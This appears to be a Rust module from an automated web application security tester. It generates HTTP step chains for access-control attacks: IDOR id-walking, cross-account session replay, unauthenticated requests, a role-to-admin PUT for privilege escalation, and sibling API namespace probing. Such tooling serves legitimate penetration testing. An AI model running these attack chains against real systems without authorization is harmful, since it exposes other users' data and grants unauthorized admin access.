//! Exploit step generators.
//!
//! Each generator is a pure function from (`exploit_target`, `observation`,
//! [`TargetProfile`]) to an ordered CAMRO step chain; it performs no I/O.
//! The registry is a startup-time map keyed by [`ExploitKind`].

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::domain::{ExploitKind, Phase, Step, StepKind};

/// How the target authenticates sessions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AuthMechanism {
    BearerToken,
    Cookie,
    CookieWithCsrf,
}

/// One pre-provisioned credential pair.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Credentials {
    pub username: String,
    pub password: String,
}

/// Static knowledge about a target needed to emit login and auth-extraction
/// steps. Provided by configuration, not discovered.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TargetProfile {
    pub auth: AuthMechanism,
    pub login_path: String,
    /// Field names of the login payload.
    #[serde(default = "default_username_field")]
    pub username_field: String,
    #[serde(default = "default_password_field")]
    pub password_field: String,
    /// Session cookie name for cookie-based targets.
    #[serde(default)]
    pub cookie_name: Option<String>,
    /// Dotted JSON path of the token in the login response, e.g.
    /// `"authentication.token"`.
    #[serde(default = "default_token_path")]
    pub token_json_path: String,
    /// CSRF token field in the login response body, when the target uses one.
    #[serde(default)]
    pub csrf_field: Option<String>,
    /// Regular account the attack authenticates as.
    pub primary: Credentials,
    /// Second account for cross-user attacks.
    pub secondary: Credentials,
}

fn default_username_field() -> String {
    "email".to_string()
}

fn default_password_field() -> String {
    "password".to_string()
}

fn default_token_path() -> String {
    "token".to_string()
}

impl TargetProfile {
    /// Regex extracting the token value from the login response body; the
    /// pattern keys off the last segment of the dotted token path.
    fn token_pattern(&self) -> String {
        let field = self
            .token_json_path
            .rsplit('.')
            .next()
            .unwrap_or(&self.token_json_path);
        format!(r#""{field}"\s*:\s*"([^"]+)""#)
    }
}

/// A pure step generator.
pub type StepGenerator = fn(&str, &str, &TargetProfile) -> Vec<Step>;

/// Registered generator for an exploit tag.
pub fn generator_for(kind: ExploitKind) -> Option<StepGenerator> {
    match kind {
        ExploitKind::IdorWalk => Some(idor_walk),
        ExploitKind::TokenSwap => Some(token_swap),
        ExploitKind::AuthStrip => Some(auth_strip),
        ExploitKind::RoleTamper => Some(role_tamper),
        ExploitKind::NamespaceProbe => Some(namespace_probe),
    }
}

/// Pattern signalling the response carried an object with an id field;
/// used by OBSERVE steps that check whether protected data came back.
const DATA_MARKER: &str = r#""id"\s*:\s*\d+"#;

// ---------------------------------------------------------------------------
// Step construction helpers
// ---------------------------------------------------------------------------

fn login_step(order: u32, profile: &TargetProfile, creds: &Credentials) -> Step {
    Step::new(order, Phase::Capture, StepKind::HttpRequest, &profile.login_path)
        .with_parameter("method", json!("POST"))
        .with_parameter(
            "body",
            json!({
                &profile.username_field: creds.username,
                &profile.password_field: creds.password,
            }),
        )
        .with_parameter("json", json!(true))
}

fn extract_step(order: u32, pattern: String) -> Step {
    Step::new(order, Phase::Analyze, StepKind::RegexMatch, pattern)
        .with_parameter("source", json!("last"))
        .with_parameter("group", json!(1))
}

fn get_step(order: u32, phase: Phase, path: &str, auth: Option<Value>) -> Step {
    let mut step = Step::new(order, phase, StepKind::HttpRequest, path)
        .with_parameter("method", json!("GET"));
    if let Some(headers) = auth {
        step = step.with_parameter("headers", headers);
    }
    step
}

fn observe_step(order: u32, pattern: &str) -> Step {
    Step::new(order, Phase::Observe, StepKind::RegexMatch, pattern)
        .with_parameter("source", json!("last"))
}

/// Bearer targets interpolate the token extracted at `token_index`; cookie
/// targets rely on the jar the login response filled.
fn auth_headers(profile: &TargetProfile, token_index: u32) -> Option<Value> {
    match profile.auth {
        AuthMechanism::BearerToken => Some(json!({
            "Authorization": format!("Bearer {{{{previous_outputs[{token_index}]}}}}"),
        })),
        AuthMechanism::Cookie | AuthMechanism::CookieWithCsrf => None,
    }
}

/// Login prologue: the login request plus, for bearer targets, the token
/// extraction step. Returns the steps and the next free order.
fn auth_prologue(profile: &TargetProfile, creds: &Credentials) -> (Vec<Step>, u32) {
    let mut steps = vec![login_step(0, profile, creds)];
    let mut next = 1;
    if profile.auth == AuthMechanism::BearerToken {
        steps.push(extract_step(1, profile.token_pattern()));
        next = 2;
    }
    (steps, next)
}

/// `/api/Users/1` -> `/api/Users/2`; paths without a trailing integer get a
/// sibling id appended.
fn adjacent_path(target: &str) -> String {
    let trimmed = target.trim_end_matches('/');
    let digits_at = trimmed
        .rfind(|c: char| !c.is_ascii_digit())
        .map(|i| i + 1)
        .unwrap_or(0);
    let (prefix, digits) = trimmed.split_at(digits_at);
    match digits.parse::<u64>() {
        Ok(n) => format!("{prefix}{}", n + 1),
        Err(_) => format!("{trimmed}/2"),
    }
}

/// `/api/...` <-> `/rest/...`; anything else gains an `/api` prefix.
fn sibling_namespace(target: &str) -> String {
    if let Some(rest) = target.strip_prefix("/api/") {
        format!("/rest/{rest}")
    } else if let Some(rest) = target.strip_prefix("/rest/") {
        format!("/api/{rest}")
    } else {
        format!("/api{target}")
    }
}

// ---------------------------------------------------------------------------
// Generators
// ---------------------------------------------------------------------------

/// Authenticate, fetch the target object, then its neighbor by adjacent id,
/// and observe whether the neighbor's data came back.
fn idor_walk(target: &str, _observation: &str, profile: &TargetProfile) -> Vec<Step> {
    let (mut steps, next) = auth_prologue(profile, &profile.primary);
    let headers = auth_headers(profile, next.saturating_sub(1));

    steps.push(get_step(next, Phase::Mutate, target, headers.clone()));
    steps.push(get_step(next + 1, Phase::Replay, &adjacent_path(target), headers));
    steps.push(observe_step(next + 2, DATA_MARKER));
    steps
}

/// Authenticate as the second account and replay the first account's
/// resource with the foreign session.
fn token_swap(target: &str, _observation: &str, profile: &TargetProfile) -> Vec<Step> {
    let (mut steps, next) = auth_prologue(profile, &profile.secondary);
    let headers = auth_headers(profile, next.saturating_sub(1));

    steps.push(get_step(next, Phase::Replay, target, headers));
    steps.push(observe_step(next + 1, DATA_MARKER));
    steps
}

/// Request the protected resource with no session at all.
fn auth_strip(target: &str, _observation: &str, _profile: &TargetProfile) -> Vec<Step> {
    let bare = get_step(0, Phase::Capture, target, None)
        .with_parameter("skip_cookies", json!(true));
    vec![bare, observe_step(1, DATA_MARKER)]
}

/// Authenticate as a regular user, push a role elevation, and re-read the
/// account to observe whether it stuck.
fn role_tamper(target: &str, _observation: &str, profile: &TargetProfile) -> Vec<Step> {
    let (mut steps, mut next) = auth_prologue(profile, &profile.primary);
    let headers = auth_headers(profile, next.saturating_sub(1));

    // CSRF-protected targets need the token from the login body on writes.
    let mut write_headers = headers.clone().unwrap_or_else(|| json!({}));
    if profile.auth == AuthMechanism::CookieWithCsrf {
        if let Some(field) = &profile.csrf_field {
            steps.push(extract_step(next, format!(r#""{field}"\s*:\s*"([^"]+)""#)));
            write_headers["X-CSRF-Token"] =
                json!(format!("{{{{previous_outputs[{next}]}}}}"));
            next += 1;
        }
    }

    let tamper = Step::new(next, Phase::Mutate, StepKind::HttpRequest, target)
        .with_parameter("method", json!("PUT"))
        .with_parameter("body", json!({"role": "admin"}))
        .with_parameter("json", json!(true))
        .with_parameter("headers", write_headers);
    steps.push(tamper);

    steps.push(get_step(next + 1, Phase::Replay, target, headers));
    steps.push(observe_step(next + 2, r#""role"\s*:\s*"admin""#));
    steps
}

/// Fetch the resource through its sibling API namespace, where deployments
/// sometimes forget the auth middleware.
fn namespace_probe(target: &str, _observation: &str, _profile: &TargetProfile) -> Vec<Step> {
    let probe = get_step(0, Phase::Capture, target, None)
        .with_parameter("skip_cookies", json!(true));
    let sibling = get_step(1, Phase::Replay, &sibling_namespace(target), None)
        .with_parameter("skip_cookies", json!(true));
    vec![probe, sibling, observe_step(2, DATA_MARKER)]
}
